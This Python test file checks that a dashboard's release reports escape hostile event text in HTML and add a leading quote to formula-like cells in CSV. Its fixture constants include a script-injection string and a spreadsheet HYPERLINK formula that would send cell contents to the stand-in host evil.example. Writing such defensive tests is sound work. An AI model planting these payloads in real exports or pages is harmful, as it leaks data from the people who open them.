"""The release report with hostile event text (a security review's findings): the HTML file
escapes it, the CSV file keeps spreadsheets from running it as a formula."""

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from dashboard.report import inert_cell
from sentrail.cli import app as cli
from tests.collector.envelopes import envelope_bytes, event
from tests.conftest import ProjectKey

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def report(fmt: str, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv("SENTRAIL_DATABASE_URL", database_url)
    target = tmp_path / f"report.{fmt}"
    result = CliRunner().invoke(
        cli, ["report", "release", "evil-1", "--format", fmt, "-o", str(target)]
    )
    assert result.exit_code == 0, result.output
    return target.read_text()


@pytest.fixture
def hostile_release(client: TestClient, project: ProjectKey) -> None:
    for service in (SCRIPT, FORMULA):
        body = envelope_bytes(
            event(message=SCRIPT, release="evil-1", server_name=service, tags={"x": SCRIPT})
        )
        response = client.post(f"/api/{project.id}/envelope/", content=body, headers=project.auth)
        assert response.status_code == 200, response.text


@pytest.mark.usefixtures("hostile_release")
def test_the_html_report_escapes_event_text_and_service_names(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = report("html", database_url, tmp_path, monkeypatch)
    assert "<script>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text  # the issue title and the service
    assert "<h1>Release evil-1</h1>" in text  # the template's own markup is still markup


@pytest.mark.usefixtures("hostile_release")
def test_the_csv_report_neutralises_formulas(
    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = list(csv.DictReader(io.StringIO(report("csv", database_url, tmp_path, monkeypatch))))
    services = {row["service"] for row in rows}
    assert "'" + FORMULA in services and FORMULA not in services
    assert SCRIPT in services  # text that starts no formula is kept as it is
    assert rows[0]["events"] == "2"  # numbers stay numbers


def test_every_formula_start_gets_a_quote() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert inert_cell(f"{start}1+1") == f"'{start}1+1"
    assert inert_cell("payment") == "payment"
    assert inert_cell(-5) == -5 and inert_cell(None) is None
